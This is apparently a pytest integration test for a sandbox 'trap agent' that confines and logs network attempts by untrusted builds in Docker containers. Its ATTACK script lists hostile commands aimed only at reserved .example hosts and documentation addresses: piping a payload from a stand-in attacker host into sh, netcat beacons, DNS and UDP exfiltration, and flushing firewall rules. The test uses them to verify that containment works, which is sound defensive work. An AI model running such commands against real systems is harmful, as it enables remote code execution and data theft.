"""Integration: the trap agent in a real warden, with a hostile build sharing its namespaces.

Builds (or reuses) a small mmdebstrap image with the agent's needs plus the attack tools.
Every attempt aims only at reserved names (``*.example``) and documentation addresses, from
inside a namespace that started as ``--network none``. Containers are labelled
``org.reprobuild.managed=true`` / ``org.reprobuild.role=trap-test`` and removed in ``finally``.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import shutil
import subprocess
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docker
import docker.errors
import pytest
from docker.types import LogConfig

from reprobuild.incontainer import trap_agent
from reprobuild.sandbox import agent as trap

from .hostcapture import HostCapture, leaks

pytestmark = pytest.mark.docker

IMAGE = "reprobuild-dev/trap:latest"
PACKAGES = "python3,nftables,iproute2,curl,dnsutils,iputils-ping,netcat-openbsd,procps"
MIRROR = "deb http://deb.debian.org/debian bookworm main"
LABELS = {"org.reprobuild.managed": "true", "org.reprobuild.role": "trap-test"}
AGENT_SOURCE = Path(trap_agent.__file__).read_text()
IPV6_SYSCTLS = {"net.ipv6.conf.all.disable_ipv6": "0",
                "net.ipv6.conf.default.disable_ipv6": "0",
                "net.ipv6.conf.lo.disable_ipv6": "0"}
BUILD_UID = 1000
FAIL_FAST_S = 5.0
# Attack destinations to look for on the host (not 192.0.2.1: the ICMP probe's target may
# be a real neighbour of the host on machines whose own network uses that range).
LEAK_HOSTS = ["203.0.113.7", "198.51.100.9", "192.0.2.77", "2001:db8::5", "2001:db8::9"]

# The hostile build: every step is timed; output is one JSON object per line.
ATTACK = r'''
import json, socket, struct, subprocess, time
STEPS = [
    ("pipe_to_shell", "curl -sS http://payload.attacker.example/payload.sh | sh"),
    ("https_beacon", "curl -sSk https://beacon.example/x"),
    ("raw_tcp", "echo beacon | nc -w 5 203.0.113.7 4444"),
    ("dns_exfil_dig", "dig +tries=1 +time=5 c2VjcmV0.exfil.example"),
    ("dns_exfil_getent", "getent hosts c2VjcmV0.exfil.example"),
    ("dns_over_tcp", "dig +tcp +tries=1 +time=5 overtcp.exfil.example AAAA"),
    ("raw_udp", "echo exfil-udp | nc -u -w 1 198.51.100.9 9999"),
    ("ping", "ping -c1 -W2 192.0.2.1"),
    ("ipv6_http", "curl -sS -g 'http://[2001:db8::5]/'"),
    ("lo_down", "ip link set lo down"),
    ("nft_flush", "nft flush ruleset"),
    ("route_del", "ip route del default"),
    ("forge", "printf 'GET / HTTP/1.1\r\nHost: forged.example\r\n\r\n' | nc -w 2 127.0.0.1 47001"),
]
for name, cmd in STEPS:
    t = time.monotonic()
    p = subprocess.run(["sh", "-c", cmd], capture_output=True, timeout=120)
    print(json.dumps({"step": name, "rc": p.returncode, "s": round(time.monotonic() - t, 3),
                      "out": (p.stdout + p.stderr)[-300:].decode("utf-8", "replace")}))
def timed(name, fn):
    t = time.monotonic()
    try:
        fn(); rc, out = 0, ""
    except OSError as exc:
        rc, out = exc.errno or -1, str(exc)
    print(json.dumps({"step": name, "rc": rc, "s": round(time.monotonic() - t, 3), "out": out}))
def icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"ping", ("192.0.2.1", 0))
def udplite():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    s.sendto(b"other-proto", ("192.0.2.77", 7777))
def udp6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.sendto(b"v6-udp-exfil", ("2001:db8::9", 5353))
    time.sleep(0.2)
timed("icmp_socket", icmp)
timed("udplite", udplite)
timed("udp6", udp6)
ifaces = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
print(json.dumps({"step": "interfaces", "rc": 0, "s": 0, "out": ",".join(ifaces)}))
'''


# --------------------------------------------------------------------------- fixtures

@pytest.fixture(scope="module")
def trap_image(client: docker.DockerClient, tmp_path_factory: pytest.TempPathFactory) -> str:
    """The dev image; built with mmdebstrap and imported when missing."""
    with contextlib.suppress(docker.errors.ImageNotFound):
        client.images.get(IMAGE)
        return IMAGE
    if shutil.which("mmdebstrap") is None:
        pytest.skip(f"{IMAGE} is missing and mmdebstrap is not installed to build it")
    tar = tmp_path_factory.mktemp("trap-image") / "trap-dev.tar"
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1735689600"}
    subprocess.run(["mmdebstrap", "--variant=apt", f"--include={PACKAGES}", "bookworm",
                    str(tar), MIRROR], check=True, env=env, capture_output=True, timeout=900)
    repository, tag = IMAGE.split(":")
    client.api.import_image_from_file(str(tar), repository=repository, tag=tag)
    tar.unlink()
    return IMAGE


class Containers:
    """Creates labelled containers and removes every one of them at the end."""

    def __init__(self, client: docker.DockerClient, image: str) -> None:
        self.client = client
        self.image = image
        self.ids: list[str] = []
        self.prefix = f"reprobuild-trap-test-{uuid.uuid4().hex[:8]}"

    def warden(self, *args: str, caps: tuple[str, ...] = (*trap.TRAP_CAPS,
                                                          *trap.SUPERVISOR_CAPS),
               ipv6: bool = True) -> str:
        api = self.client.api
        host_config = api.create_host_config(
            network_mode="none", cap_drop=["ALL"], cap_add=list(caps),
            security_opt=["no-new-privileges:true"], read_only=True,
            tmpfs={"/run": "size=8m,mode=0700"}, sysctls=IPV6_SYSCTLS if ipv6 else None,
            pids_limit=64, mem_limit="128m", memswap_limit="128m",
            log_config=LogConfig(type="json-file", config={"max-size": "10m", "max-file": "1"}))
        created = api.create_container(
            self.image, command=["python3", "-I", "-S", "-c", AGENT_SOURCE, *args],
            name=f"{self.prefix}-warden-{len(self.ids)}", labels=LABELS,
            host_config=host_config)
        cid: str = created["Id"]
        self.ids.append(cid)
        api.start(cid)
        return cid

    def build(self, warden: str, command: list[str], uid: int = BUILD_UID) -> str:
        api = self.client.api
        host_config = api.create_host_config(
            network_mode=f"container:{warden}", pid_mode=f"container:{warden}",
            cap_drop=["ALL"], security_opt=["no-new-privileges:true"], read_only=True,
            tmpfs={"/tmp": "size=16m"}, pids_limit=128, mem_limit="256m",
            memswap_limit="256m")
        created = api.create_container(
            self.image, command=command, user=f"{uid}:{uid}",
            name=f"{self.prefix}-build-{len(self.ids)}", labels=LABELS,
            host_config=host_config)
        cid: str = created["Id"]
        self.ids.append(cid)
        api.start(cid)
        return cid

    def wait_exit(self, cid: str, timeout: float) -> int:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            state = self.client.api.inspect_container(cid)["State"]
            if state["Status"] in ("exited", "dead"):
                return int(state["ExitCode"])
            time.sleep(0.2)
        raise AssertionError(f"container {cid[:12]} still running after {timeout}s")

    def logs(self, cid: str) -> list[str]:
        data: bytes = self.client.api.logs(cid, stdout=True, stderr=True)
        return data.decode("utf-8", "replace").splitlines()

    def remove_all(self) -> None:
        for cid in reversed(self.ids):  # builds first, the warden last
            with contextlib.suppress(docker.errors.NotFound):
                self.client.api.remove_container(cid, force=True, v=True)
        for cid in self.ids:
            with pytest.raises(docker.errors.NotFound):
                self.client.api.inspect_container(cid)


@pytest.fixture
def containers(client: docker.DockerClient, trap_image: str) -> Iterator[Containers]:
    made = Containers(client, trap_image)
    try:
        yield made
    finally:
        made.remove_all()


def wait_ready(containers: Containers, warden: str, timeout: float = 60) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for line in containers.logs(warden):
            if line.startswith(trap_agent.READY_PREFIX + " "):
                ready: dict[str, Any] = json.loads(line.split(" ", 1)[1])
                return ready
        state = containers.client.api.inspect_container(warden)["State"]
        if state["Status"] in ("exited", "dead"):
            raise AssertionError(f"warden exited {state['ExitCode']} without READY: "
                                 f"{containers.logs(warden)}")
        time.sleep(0.2)
    raise AssertionError(f"no READY within {timeout}s: {containers.logs(warden)}")


def events_of(containers: Containers, warden: str) -> list[dict[str, Any]]:
    lines = containers.logs(warden)
    after = [i for i, line in enumerate(lines) if line.startswith(trap_agent.READY_PREFIX)]
    assert len(after) == 1, lines
    return [json.loads(line) for line in lines[after[0] + 1:] if line.strip()]


def find(events: list[dict[str, Any]], **want: Any) -> dict[str, Any]:
    for event in events:
        if all(event.get(k) == v for k, v in want.items()):
            return event
    raise AssertionError(f"no event with {want} in:\n" +
                         "\n".join(json.dumps(e) for e in events))


# --------------------------------------------------------------------------- tests

def test_trap_records_every_attempt_and_nothing_leaves(containers: Containers,
                                                       tmp_path: Path) -> None:
    capture = HostCapture(tmp_path / "host.pcap", LEAK_HOSTS)
    try:
        warden = containers.warden()
        ready = wait_ready(containers, warden)
        assert ready["kind"] == "ready" and ready["backend"] == "nft"
        assert ready["ipv6"] is True and ready["attribution"] == "pid"
        assert all(v.startswith("ok") for k, v in ready["selftest"].items()), ready
        build = containers.build(warden, ["python3", "-c", ATTACK])
        assert containers.wait_exit(build, timeout=180) == 0, containers.logs(build)
        steps = {s["step"]: s for s in map(json.loads, containers.logs(build))}
    finally:
        host_packets = capture.stop()

    # Fail fast: every attempt ends in seconds (nc -u waits its own -w 1).
    slow = {name: s["s"] for name, s in steps.items() if s["s"] > FAIL_FAST_S}
    assert not slow, steps
    print("fail-fast seconds:", {name: s["s"] for name, s in steps.items()})
    assert steps["interfaces"]["out"] == "lo"
    for name in ("lo_down", "nft_flush", "route_del"):
        assert steps[name]["rc"] != 0, steps[name]
    assert steps["https_beacon"]["rc"] != 0 and steps["ipv6_http"]["rc"] == 0  # 403, empty

    # The build could not change the rules.
    code, listing = containers.client.containers.get(warden).exec_run(
        ["nft", "-j", "list", "ruleset"], demux=False)
    assert code == 0 and isinstance(listing, bytes)
    assert hashlib.sha256(listing).hexdigest() == ready["ruleset_sha256"]

    # SIGTERM: prompt, clean exit; what was queued is still logged, the ruleset unchanged.
    started = time.monotonic()
    containers.client.api.stop(warden, timeout=10)
    assert time.monotonic() - started < 5
    assert containers.client.api.inspect_container(warden)["State"]["ExitCode"] == 0

    events = events_of(containers, warden)
    assert not [e for e in events if e["kind"] in ("error", "dropped")], events
    genuine = [e for e in events if not e["forged"]]
    assert all(e["uid"] == BUILD_UID for e in genuine), genuine
    assert {e["kind"] for e in events} <= set(trap_agent.EVENT_KINDS)

    payload_dns = find(events, kind="dns", name="payload.attacker.example", qtype="A")
    assert payload_dns["dport"] == 53 and payload_dns["dst"] in ready["resolvers"]
    http = find(events, kind="http", name="payload.attacker.example")
    assert http["detail"] == "GET /payload.sh HTTP/1.1" and http["dport"] == 80
    assert http["exe"] == "/usr/bin/curl" and http["pid"] is not None
    assert "payload.attacker.example/payload.sh" in http["cmdline"]
    assert any("| sh" in (p["cmdline"] or "") for p in http["parents"])
    tls = find(events, kind="tls", name="beacon.example", dport=443)
    assert "alpn=h2" in tls["detail"]
    raw = find(events, kind="tcp", dst="203.0.113.7", dport=4444)
    assert "626561636f6e" in raw["detail"] and raw["exe"] == "/usr/bin/nc.openbsd"
    find(events, kind="dns", name="c2VjcmV0.exfil.example", qtype="A", exe="/usr/bin/dig")
    find(events, kind="dns", name="c2VjcmV0.exfil.example", exe="/usr/bin/getent")
    find(events, kind="dns", proto="tcp", name="overtcp.exfil.example", qtype="AAAA")
    udp = find(events, kind="udp", dst="198.51.100.9", dport=9999)
    assert "exfil-udp" in udp["detail"]
    find(events, kind="icmp", dst="192.0.2.1", proto="icmp")
    find(events, kind="other", proto="udplite", dst="192.0.2.77", dport=7777)
    v6 = find(events, kind="http", family=6, dst="2001:db8::5", dport=80)
    assert v6["detail"] == "GET / HTTP/1.1"
    find(events, kind="udp", family=6, dst="2001:db8::9", dport=5353)
    forged = find(events, kind="forged", dport=47001)
    assert forged["forged"] is True and forged["dst"] == "127.0.0.1"
    assert not [e for e in events if e["name"] == "forged.example"]


    assert leaks(host_packets, LEAK_HOSTS, ["exfil", "attacker", "beacon", "c2VjcmV0"]) == []


def test_flood_is_capped_and_forgeries_cannot_crowd_out_real_attempts(
        containers: Containers) -> None:
    warden = containers.warden("--rate", "20", "--burst", "40", "--max-events", "60",
                               "--max-forged", "10")
    wait_ready(containers, warden)
    flood = r'''
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(300):
    s.sendto(b"forged %d" % i, ("127.0.0.1", 47002))
time.sleep(0.5)
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04real\x07example\x00\x00\x01\x00\x01"
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.settimeout(3)
d.sendto(q, ("192.0.2.53", 53)); print(d.recvfrom(512)[1])
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(400):
    u.sendto(b"x", ("198.51.100.%d" % (1 + i % 200), 1000 + i))
'''
    build = containers.build(warden, ["python3", "-c", flood])
    assert containers.wait_exit(build, timeout=60) == 0, containers.logs(build)
    assert "192.0.2.53" in containers.logs(build)[-1]
    containers.client.api.stop(warden, timeout=10)  # drains, then writes the final summary
    events = events_of(containers, warden)
    forged = [e for e in events if e["forged"]]
    genuine = [e for e in events if e["kind"] not in ("forged", "dropped")]
    dropped = sum(e["count"] for e in events if e["kind"] == "dropped")
    assert 0 < len(forged) <= 10
    find(events, kind="dns", name="real.example", dst="192.0.2.53")
    assert len(genuine) <= 60
    assert len(forged) + len(genuine) + dropped == 300 + 1 + 400
    assert len(events) < 100


def test_sigusr1_completes_the_log_and_keeps_the_namespace_up(containers: Containers) -> None:
    """The host's "build is over": every queued attempt, then DONE last, and the warden
    (which holds the output volume) stays up until it is told to go."""
    warden = containers.warden()
    wait_ready(containers, warden)
    burst = r'''
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(20):
    u.sendto(b"late", ("198.51.100.%d" % (1 + i), 2000 + i))
'''
    build = containers.build(warden, ["python3", "-c", burst])
    assert containers.wait_exit(build, timeout=60) == 0, containers.logs(build)
    containers.client.api.kill(warden, signal="SIGUSR1")
    deadline = time.monotonic() + 10
    while trap_agent.DONE_LINE not in containers.logs(warden):
        assert time.monotonic() < deadline, containers.logs(warden)
        time.sleep(0.05)
    lines = containers.logs(warden)
    assert lines[-1] == trap_agent.DONE_LINE
    events = [json.loads(line) for line in lines[:-1] if line.startswith("{")]
    udp = [e for e in events if e["kind"] == "udp" and e["dst"].startswith("198.51.100.")]
    assert len(udp) == 20, events
    time.sleep(0.5)
    assert containers.client.api.inspect_container(warden)["State"]["Running"]
    assert containers.logs(warden)[-1] == trap_agent.DONE_LINE  # nothing after DONE
    started = time.monotonic()
    containers.client.api.stop(warden, timeout=10)
    assert time.monotonic() - started < 5
    assert containers.client.api.inspect_container(warden)["State"]["ExitCode"] == 0


def test_no_net_admin_means_no_ready(containers: Containers) -> None:
    warden = containers.warden(caps=())
    assert containers.wait_exit(warden, timeout=60) == 1
    lines = containers.logs(warden)
    assert not [line for line in lines if line.startswith(trap_agent.READY_PREFIX)]
    errors = [json.loads(line) for line in lines if line.startswith("{")]
    assert errors and errors[-1]["kind"] == "error", lines


def test_ipv6_disabled_is_reported_and_still_fails_closed(containers: Containers) -> None:
    required = containers.warden("--ipv6", "require", ipv6=False)
    assert containers.wait_exit(required, timeout=60) == 1
    warden = containers.warden(caps=("NET_ADMIN",), ipv6=False)
    ready = wait_ready(containers, warden)
    assert ready["ipv6"] is False and ready["attribution"] == "uid"
    build = containers.build(warden, ["sh", "-c",
                                      "curl -sS -m 20 -g 'http://[2001:db8::5]/'; echo rc=$?; "
                                      "curl -sS -m 20 http://v4.example/; echo rc=$?"])
    assert containers.wait_exit(build, timeout=60) == 0
    containers.client.api.stop(warden, timeout=10)
    out = "\n".join(containers.logs(build))
    assert "rc=7" in out  # IPv6: could not connect (ENETUNREACH), nothing sent
    events = events_of(containers, warden)
    http = find(events, kind="http", name="v4.example")
    assert http["uid"] == BUILD_UID and http["pid"] is None
    assert not [e for e in events if e["family"] == 6]
